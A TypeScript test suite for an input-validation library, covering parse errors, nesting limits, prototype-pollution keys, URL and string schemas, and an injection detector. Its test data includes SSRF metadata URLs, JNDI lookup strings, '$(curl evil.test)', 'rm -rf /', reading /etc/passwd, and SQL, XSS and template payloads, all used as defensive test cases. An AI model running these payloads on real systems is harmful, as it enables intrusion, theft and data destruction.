import { ConfigurationError, ValidationError, isArmorError } from '@armor/errors';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { detectInjection } from './detect.js';
import { limits } from './limits.js';
import { parse, safeParse, toPointer } from './parse.js';
import { schemas } from './schemas.js';

function deepArray(depth: number): unknown {
  let value: unknown = [];
  for (let i = 0; i < depth; i++) value = [value];
  return value;
}

function issuesOf(fn: () => unknown) {
  try {
    fn();
  } catch (error) {
    expect(error).toBeInstanceOf(ValidationError);
    expect(isArmorError(error, 'VALIDATION_FAILED')).toBe(true);
    return (error as ValidationError).issues;
  }
  throw new Error('expected a ValidationError');
}

describe('parse / safeParse', () => {
  const Body = z.object({ items: z.array(z.object({ name: z.string().min(1) })), 'a/b~c': z.number().optional() });

  it('returns the typed value', () => {
    const value = parse(Body, { items: [{ name: 'x' }] });
    expect(value.items[0]?.name).toBe('x');
  });

  it('throws ValidationError with JSON-pointer paths, prefixed by `path`', () => {
    const issues = issuesOf(() => parse(Body, { items: [{ name: 'ok' }, { name: '' }], 'a/b~c': 'x' }, { path: '/body' }));
    expect(issues).toEqual([
      { path: '/body/items/1/name', message: expect.any(String), code: 'too_small' },
      { path: '/body/a~1b~0c', message: expect.any(String), code: 'invalid_type' },
    ]);
  });

  it('reports each unrecognized key with its own path', () => {
    const issues = issuesOf(() => parse(z.strictObject({ a: z.string() }), { a: 'x', b: 1, c: 2 }));
    expect(issues.map((i) => i.path)).toEqual(['/b', '/c']);
    expect(issues[0]?.code).toBe('unrecognized_keys');
  });

  it('safeParse returns a result instead of throwing', () => {
    expect(safeParse(z.string(), 'x')).toEqual({ success: true, data: 'x' });
    const failed = safeParse(z.string(), 1);
    expect(failed.success).toBe(false);
    if (!failed.success) expect(failed.error.issues).toEqual([{ path: '', message: expect.any(String), code: 'invalid_type' }]);
  });

  it('checks limits before the schema when given', () => {
    const issues = issuesOf(() => parse(z.any(), deepArray(100), { limits: limits({ maxDepth: 10 }) }));
    expect(issues[0]?.code).toBe('too_deep');
  });

  it('turns a stack overflow in a recursive schema into a too_deep issue', () => {
    type Tree = unknown[];
    const TreeSchema: z.ZodType<Tree> = z.lazy(() => z.array(TreeSchema));
    const issues = issuesOf(() => parse(TreeSchema, deepArray(200_000)));
    expect(issues[0]?.code).toBe('too_deep');
  });

  it('toPointer escapes ~ and /', () => {
    expect(toPointer(['a', 0, 'b/c', 'd~e'])).toBe('/a/0/b~1c/d~0e');
  });
});

describe('limits', () => {
  it('rejects a 10,000-deep array without blowing the stack', () => {
    const guard = limits({ maxDepth: 64 });
    const issue = guard.check(deepArray(10_000));
    expect(issue?.code).toBe('too_deep');
    expect(issue?.path.split('/').length).toBe(65); // '' + 64 segments
    expect(() => guard.assert(deepArray(10_000))).toThrow(ValidationError);
  });

  it('rejects a 1,000,000-deep array too (iterative walk)', () => {
    expect(limits().check(deepArray(1_000_000))?.code).toBe('too_deep');
  });

  it('counts keys and elements across the whole value', () => {
    const guard = limits({ maxKeys: 100 });
    expect(guard.check({ a: Array.from({ length: 99 }, () => 1) })).toBeUndefined();
    expect(guard.check({ a: Array.from({ length: 100 }, () => 1) })?.code).toBe('too_many_keys');
    expect(guard.check(Array.from({ length: 20 }, () => ({ a: 1, b: 2, c: 3, d: 4, e: 5 })))?.code).toBe('too_many_keys');
  });

  it('limits strings and keys', () => {
    const guard = limits({ maxStringLength: 10 });
    expect(guard.check({ a: ['x'.repeat(11)] })).toEqual({ path: '/a/0', message: expect.any(String), code: 'string_too_long' });
    expect(guard.check({ ['k'.repeat(11)]: 1 })?.code).toBe('string_too_long');
    expect(guard.check('x'.repeat(11), '/body')?.path).toBe('/body');
  });

  it('accepts values within the limits (property)', () => {
    const guard = limits({ maxDepth: 10, maxKeys: 10_000, maxStringLength: 1000 });
    // fast-check generates "__proto__"/"constructor" keys on purpose: those are forbidden_key by default
    const lenient = limits({ maxDepth: 10, maxKeys: 10_000, maxStringLength: 1000, rejectProtoKeys: false });
    fc.assert(
      fc.property(fc.jsonValue({ maxDepth: 8 }), (value) => {
        expect(lenient.check(value)).toBeUndefined();
        const issue = guard.check(value);
        if (issue !== undefined) expect(issue.code).toBe('forbidden_key');
      }),
    );
  });

  it('reports a throwing getter as an issue', () => {
    const hostile = { get boom() { throw new Error('no'); } };
    expect(limits().check(hostile)?.code).toBe('invalid_structure');
  });

  it('rejects bad options', () => {
    expect(() => limits({ maxDepth: -1 })).toThrow(ConfigurationError);
    expect(() => limits({ maxKeys: 1.5 })).toThrow(/maxKeys/);
    expect(() => limits({ maxDepht: 3 } as never)).toThrow(/did you mean "maxDepth"/);
    expect(() => limits({ rejectProtoKeys: 'no' } as never)).toThrow(/rejectProtoKeys/);
  });

  it('flags __proto__, constructor and prototype keys (prototype pollution) unless allowed', () => {
    const polluted = JSON.parse('{"a":{"b":[{"__proto__":{"admin":true}}]}}') as unknown;
    expect(limits().check(polluted)).toMatchObject({ code: 'forbidden_key', path: '/a/b/0/__proto__' });
    expect(limits().check(JSON.parse('{"constructor":{"prototype":{"x":1}}}'))).toMatchObject({ code: 'forbidden_key', path: '/constructor' });
    expect(limits().check({ proto: 1, constructorName: 'x' })).toBeUndefined();
    expect(limits({ rejectProtoKeys: false }).check(polluted)).toBeUndefined();
  });
});

describe('option checks (kernel)', () => {
  it('every factory refuses unknown options with the closest known name', () => {
    expect(() => schemas.email({ maxx: 3 } as never)).toThrow(/Unknown option "maxx".*did you mean "max"/);
    expect(() => schemas.httpUrl({ allowedHost: ['a.com'] } as never)).toThrow(/did you mean "allowedHosts"/);
    expect(() => schemas.pagination({ maxlimit: 3 } as never)).toThrow(/did you mean "maxLimit"/);
    expect(() => schemas.safeString({ multiLine: true } as never)).toThrow(/did you mean "multiline"/);
    expect(() => schemas.html({ allowedTag: ['b'] } as never)).toThrow(/did you mean "allowedTags"/);
    expect(() => detectInjection('x', { maxLen: 3 } as never)).toThrow(/did you mean "maxLength"/);
    expect(() => parse(z.string(), 'x', { limit: limits() } as never)).toThrow(/did you mean "limits"/);
    // one rule for counts: 0 is not a count
    expect(() => schemas.email({ max: 0 })).toThrow(expect.objectContaining({ option: 'max' }));
    expect(() => schemas.safeString({ min: -1 })).toThrow(expect.objectContaining({ option: 'min' }));
  });
});

describe('schemas', () => {
  it('id: uuid by default, configurable kinds', () => {
    expect(parse(schemas.id(), '3f2504e0-4f89-41d3-9a0c-0305e82c3301')).toBe('3f2504e0-4f89-41d3-9a0c-0305e82c3301');
    expect(safeParse(schemas.id(), '42').success).toBe(false);
    expect(parse(schemas.id({ kind: 'numeric' }), '42')).toBe('42');
    expect(safeParse(schemas.id({ kind: 'numeric' }), '042').success).toBe(false);
    expect(safeParse(schemas.id({ kind: 'numeric' }), '-1').success).toBe(false);
    expect(parse(schemas.id({ kind: ['cuid', 'numeric'] }), 'cjld2cjxh0000qzrmn831i7rn')).toBe('cjld2cjxh0000qzrmn831i7rn');
    expect(() => schemas.id({ kind: 'nope' as never })).toThrow(ConfigurationError);
  });

  it('email: trimmed, domain lowercased, bounded', () => {
    expect(parse(schemas.email(), '  Ada@Example.COM ')).toBe('Ada@example.com');
    expect(safeParse(schemas.email(), 'not-an-email').success).toBe(false);
    expect(safeParse(schemas.email(), `${'a'.repeat(250)}@x.io`).success).toBe(false);
  });

  // SSRF: every spelling of a private target, parsed by the WHATWG URL parser, judged by the kernel's ipRange
  it('httpUrl({ allowPrivate: false }) refuses loopback, private, link-local and metadata hosts in every spelling', () => {
    const publicOnly = schemas.httpUrl({ allowPrivate: false });
    for (const bad of [
      'http://127.0.0.1/', 'http://127.1/', 'http://0x7f000001/', 'http://2130706433/', 'http://0177.0.0.1/', 'http://0x7f.1/',
      'http://[::ffff:127.0.0.1]/', 'http://[::1]/', 'http://[::]/', 'http://0.0.0.0/', 'http://169.254.169.254/latest/meta-data/',
      'http://[fd00::1]/', 'http://[fe80::1]/', 'http://10.0.0.1/', 'http://192.168.1.1:8080/', 'http://172.16.0.1/', 'http://100.64.0.1/',
      'http://localhost:3000/', 'http://api.localhost/', 'http://metadata.google.internal/', 'http://[64:ff9b::a9fe:a9fe]/', 'http://[2002:7f00:1::]/',
    ]) {
      expect(safeParse(publicOnly, bad).success, bad).toBe(false);
      expect(safeParse(schemas.httpUrl(), bad).success, bad).toBe(true);
    }
    for (const good of ['https://example.com/', 'http://93.184.215.14/', 'http://[2606:2800:21f:cb07:6820:80da:af6b:8b2c]/', 'https://localhost.example.com/']) {
      expect(safeParse(publicOnly, good).success, good).toBe(true);
    }
  });

  // issue 24: `http://metadata/` (GCP's short metadata name) and other single-label or
  // internal-only names passed with allowPrivate: false.
  it('httpUrl({ allowPrivate: false }) refuses single-label and internal-only host names', () => {
    const publicOnly = schemas.httpUrl({ allowPrivate: false });
    for (const bad of [
      'http://metadata/computeMetadata/v1/', 'http://metadata./', 'http://METADATA/', 'http://kubernetes/', 'http://instance-data/', 'http://localhost./',
      'http://metadata.google.internal./', 'http://a.b.internal/', 'http://ip-10-0-0-1.ec2.internal/', 'http://printer.local/',
      'http://my-svc.default.svc.cluster.local/', 'http://router.home.arpa/', 'http://db.localdomain/', 'http://x.localhost./',
      'http://nas.lan/', 'http://wiki.intranet/', 'http://metadata.goog/', 'http://dc01.corp/',
    ]) {
      expect(safeParse(publicOnly, bad).success, bad).toBe(false);
      expect(safeParse(schemas.httpUrl(), bad).success, bad).toBe(true);
    }
    for (const good of ['https://example.com./', 'https://internal.example.com/', 'https://local.example/', 'https://metadata.example.org/', 'https://xn--bcher-kva.de/']) {
      expect(safeParse(publicOnly, good).success, good).toBe(true);
    }
  });

  it('httpUrl: http/https only, no credentials, host allowlist', () => {
    expect(parse(schemas.httpUrl(), 'https://Example.com/a b')).toBe('https://example.com/a%20b');
    for (const bad of ['javascript:alert(1)', 'ftp://x.test/', 'https://user:pw@x.test/', 'data:text/html,x', '//x.test', 'not a url']) {
      expect(safeParse(schemas.httpUrl(), bad).success, bad).toBe(false);
    }
    const allowed = schemas.httpUrl({ allowedHosts: ['example.com', '*.cdn.test'] });
    expect(parse(allowed, 'https://example.com/')).toBe('https://example.com/');
    expect(parse(allowed, 'https://a.cdn.test/x')).toBe('https://a.cdn.test/x');
    expect(safeParse(allowed, 'https://cdn.test/').success).toBe(false);
    expect(safeParse(allowed, 'https://evil-example.com/').success).toBe(false);
    expect(safeParse(allowed, 'https://example.com.evil.test/').success).toBe(false);
  });

  it('pagination: limit from numbers or query strings, default, bounds, cursor charset', () => {
    const page = schemas.pagination({ maxLimit: 50 });
    expect(parse(page, {})).toEqual({ limit: 20 });
    expect(parse(page, { limit: '10', cursor: 'abc_123' })).toEqual({ limit: 10, cursor: 'abc_123' });
    expect(issuesOf(() => parse(page, { limit: '51' }))[0]?.path).toBe('/limit');
    expect(safeParse(page, { limit: '0' }).success).toBe(false);
    expect(safeParse(page, { limit: ['1', '2'] }).success).toBe(false);
    expect(safeParse(page, { limit: '1e3' }).success).toBe(false);
    expect(safeParse(page, { cursor: '<script>' }).success).toBe(false);
    expect(() => schemas.pagination({ maxLimit: 10, defaultLimit: 20 })).toThrow(/defaultLimit/);
  });

  it('sort: typed fields and directions', () => {
    const sort = schemas.sort(['createdAt', 'name']);
    expect(parse(sort, '-createdAt,name')).toEqual([{ field: 'createdAt', direction: 'desc' }, { field: 'name', direction: 'asc' }]);
    expect(parse(sort, 'name:desc')).toEqual([{ field: 'name', direction: 'desc' }]);
    expect(safeParse(sort, 'password').success).toBe(false);
    expect(safeParse(sort, 'name,name').success).toBe(false);
    expect(safeParse(sort, 'name:sideways').success).toBe(false);
    expect(() => schemas.sort([])).toThrow(ConfigurationError);
  });

  it('safeString: NFC, trimmed, rejects controls, bidi overrides and lone surrogates', () => {
    const s = schemas.safeString({ max: 5 });
    expect(parse(s, '  Cafe\u0301 ')).toBe('Café');
    expect(parse(s, '😀😀😀😀😀')).toBe('😀😀😀😀😀');
    expect(safeParse(s, '😀😀😀😀😀😀').success).toBe(false);
    for (const bad of ['a\u202Eb', 'a\u2066b', 'a\0b', 'a\x1bb', 'a\nb', 'a\uD800b', '\uDC00', 'a\u0085']) {
      expect(safeParse(s, bad).success, JSON.stringify(bad)).toBe(false);
    }
    expect(parse(schemas.safeString({ multiline: true }), 'a\nb\tc')).toBe('a\nb\tc');
    expect(safeParse(schemas.safeString({ min: 2 }), ' a ').success).toBe(false);
  });

  it('html: sanitized on parse, bounded before sanitizing', () => {
    expect(parse(schemas.html(), '<p onclick="x()">hi<script>1</script></p>')).toBe('<p>hi</p>');
    expect(safeParse(schemas.html({ max: 10 }), '<p>'.repeat(10)).success).toBe(false);
    expect(() => schemas.html({ allowedTags: ['script'] })).toThrow(ConfigurationError);
  });
});

describe('bad input table: always a ValidationError, never a crash', () => {
  const mb = 'a'.repeat(1024 * 1024);
  const revoked = Proxy.revocable({}, {});
  revoked.revoke();
  const cases: [string, z.ZodType, unknown][] = [
    ['number for safeString', schemas.safeString(), 42],
    ['null for email', schemas.email(), null],
    ['object for httpUrl', schemas.httpUrl(), { href: 'https://x.test' }],
    ['array for id', schemas.id(), ['3f2504e0-4f89-41d3-9a0c-0305e82c3301']],
    ['symbol for sort', schemas.sort(['a']), Symbol('a')],
    ['bigint for html', schemas.html(), 10n],
    ['function for pagination', schemas.pagination(), () => 1],
    ['megabyte safeString', schemas.safeString(), mb],
    ['megabyte email', schemas.email(), `${mb}@x.test`],
    ['megabyte url', schemas.httpUrl(), `https://x.test/${mb}`],
    ['megabyte id', schemas.id(), mb],
    ['megabyte sort', schemas.sort(['a']), mb],
    ['megabyte html', schemas.html(), `<p>${mb}`],
    ['lone high surrogate', schemas.safeString(), 'abc\uD83D'],
    ['lone low surrogate', schemas.safeString(), '\uDE00abc'],
    ['lone surrogate email', schemas.email(), 'a\uD800@x.test'],
    ['NUL in safeString', schemas.safeString(), 'a\0b'],
    ['NUL in id', schemas.id(), '3f2504e0-4f89-41d3-9a0c-0305e82c330\0'],
    ['NUL in url', schemas.httpUrl(), 'https://x.test/\0'],
    ['NUL in email', schemas.email(), 'a\0@x.test'],
    ['deep nesting in object schema', z.object({ a: z.string() }), deepArray(10_000)],
    ['deep nesting in pagination', schemas.pagination(), { limit: deepArray(10_000) }],
    ['revoked proxy', z.object({ a: z.string() }), revoked.proxy],
  ];
  it.each(cases)('%s', (_name, schema, input) => {
    const result = safeParse(schema, input, { limits: limits() });
    expect(result.success).toBe(false);
    if (!result.success) {
      expect(result.error).toBeInstanceOf(ValidationError);
      expect(result.error.status).toBe(400);
      expect(result.error.issues.length).toBeGreaterThan(0);
      for (const issue of result.error.issues) expect(typeof issue.path).toBe('string');
    }
  });

  it.each(cases)('%s (without limits)', (_name, schema, input) => {
    expect(() => parse(schema, input)).toThrow(ValidationError);
  });

  it('sanitizeHtml / stripTags / escapeHtml reject non-strings with ValidationError', async () => {
    const { sanitizeHtml, stripTags, escapeHtml } = await import('./sanitize.js');
    for (const fn of [sanitizeHtml, stripTags, escapeHtml] as ((v: unknown) => string)[]) {
      for (const value of [null, undefined, 1, {}, [], Symbol('x')]) expect(() => fn(value)).toThrow(ValidationError);
    }
    expect(sanitizeHtml(`<p>${mb}</p>`, { maxInputLength: Infinity }).length).toBe(mb.length + 7);
    expect(() => sanitizeHtml(`<p>${mb}</p>`)).toThrow(expect.objectContaining({ code: 'PAYLOAD_TOO_LARGE' }));
    expect(sanitizeHtml('a\uD800b\0c')).toBe('a\uD800bc');
  });
});

describe('detectInjection', () => {
  const kinds = (value: unknown) => [...new Set(detectInjection(value).map((s) => s.kind))].sort();

  it('flags ${jndi:, template injection, double encoding and 1 OR 1=1', () => {
    for (const payload of ['${jndi:ldap://evil.example/a}', '${${lower:j}ndi:ldap://x/a}', '${env:X:-j}${jndi:dns://x}']) expect(kinds(payload), payload).toContain('jndi');
    for (const payload of ['{{7*7}}', '{{ config.items() }}', '${7*7}', '<%= 7*7 %>', '#{7*7}', "{{''.__class__}}"]) expect(kinds(payload), payload).toContain('template');
    expect(kinds('%253Cscript%253Ealert(1)%253C/script%253E')).toEqual(expect.arrayContaining(['encoding', 'xss']));
    expect(kinds('..%252f..%252fetc%252fpasswd')).toEqual(expect.arrayContaining(['encoding', 'path-traversal']));
    expect(kinds('1 OR 1=1')).toContain('sql');
    expect(kinds("x' or 'a'='a")).toContain('sql');
    expect(kinds('$(whoami)')).toContain('command');
    expect(kinds('`cat /etc/passwd`')).toContain('command');
  });

  // A benign corpus: known false positives are the ones listed in the README, none of these.
  it('stays quiet on a benign corpus (price is $(5), Markdown code, templates in prose, percentages)', () => {
    const benign = [
      'price is $(5)', 'costs $(5.99) after tax', 'use `npm install` then `npm test`', 'see `README.md`', 'Hello {{name}}, welcome!',
      '{{ user.firstName }}', '100% sure', '50%25 off', 'a=1&b=2', 'O Reilly or 2 others', 'It is 1 or 2 = 3 apples', 'Q&A: what is ${price}?',
      'I paid $5 (five dollars)', 'email me at jane@example.com', 'https://example.com/a?b=c#d', 'C:\\Users\\jane\\docs', 'rock & roll; live',
      '#{hashtag}', 'Mix 2 cups (flour) + 1 cup water', 'version 1.2.3-beta+build.5', 'ratio 3/4 or 0.75', "don't stop -- keep going",
    ];
    const flagged = benign.filter((text) => detectInjection(text).length > 0).map((text) => `${text} → ${JSON.stringify(detectInjection(text))}`);
    expect(flagged).toEqual([]);
  });

  it('flags typical payloads', () => {
    expect(kinds("' OR '1'='1")).toContain('sql');
    expect(kinds('1 UNION SELECT password FROM users')).toContain('sql');
    expect(kinds("x'; DROP TABLE users; --")).toContain('sql');
    expect(kinds('<script>alert(1)</script>')).toContain('xss');
    expect(kinds('<img src=x onerror=alert(1)>')).toContain('xss');
    expect(kinds('javascript:alert(1)')).toContain('xss');
    expect(kinds('../../etc/passwd')).toContain('path-traversal');
    expect(kinds('%2e%2e%2f%2e%2e%2fetc')).toContain('path-traversal');
    expect(kinds('foo; rm -rf /')).toContain('command');
    expect(kinds('$(curl evil.test)')).toContain('command');
    expect(kinds({ user: { $ne: null } })).toContain('nosql');
    expect(kinds('{"$where": "sleep(1000)"}')).toContain('nosql');
  });

  it('reports paths and never rewrites the input', () => {
    const input = { q: "' OR 1=1 --", filter: { $where: 'x' }, list: ['ok', '<svg onload=x>'] };
    const copy = structuredClone(input);
    const signals = detectInjection(input);
    expect(signals).toEqual(expect.arrayContaining([
      { kind: 'sql', rule: 'sql.tautology', path: '/q' },
      { kind: 'nosql', rule: 'nosql.operator', path: '/filter/$where' },
      { kind: 'xss', rule: 'xss.event-handler', path: '/list/1' },
    ]));
    expect(input).toEqual(copy);
  });

  it('stays quiet on ordinary text', () => {
    for (const text of ['Hello, world', 'O\'Reilly', 'price: $5', 'a/b/c.txt', 'select a colour', 'Tom & Jerry', 'what is 1+1?', 'user@example.com']) {
      expect(detectInjection(text), text).toEqual([]);
    }
  });

  it('never throws and is bounded (property + hostile values)', () => {
    fc.assert(fc.property(fc.anything(), (value) => Array.isArray(detectInjection(value))));
    expect(Array.isArray(detectInjection(deepArray(100_000)))).toBe(true);
    const wide = Array.from({ length: 1000 }, () => Array.from({ length: 1000 }, () => '<script>'));
    expect(detectInjection(wide).length).toBeLessThanOrEqual(1000);
    expect(() => detectInjection('x', { maxLength: 0 })).toThrow(ConfigurationError);
  });
});
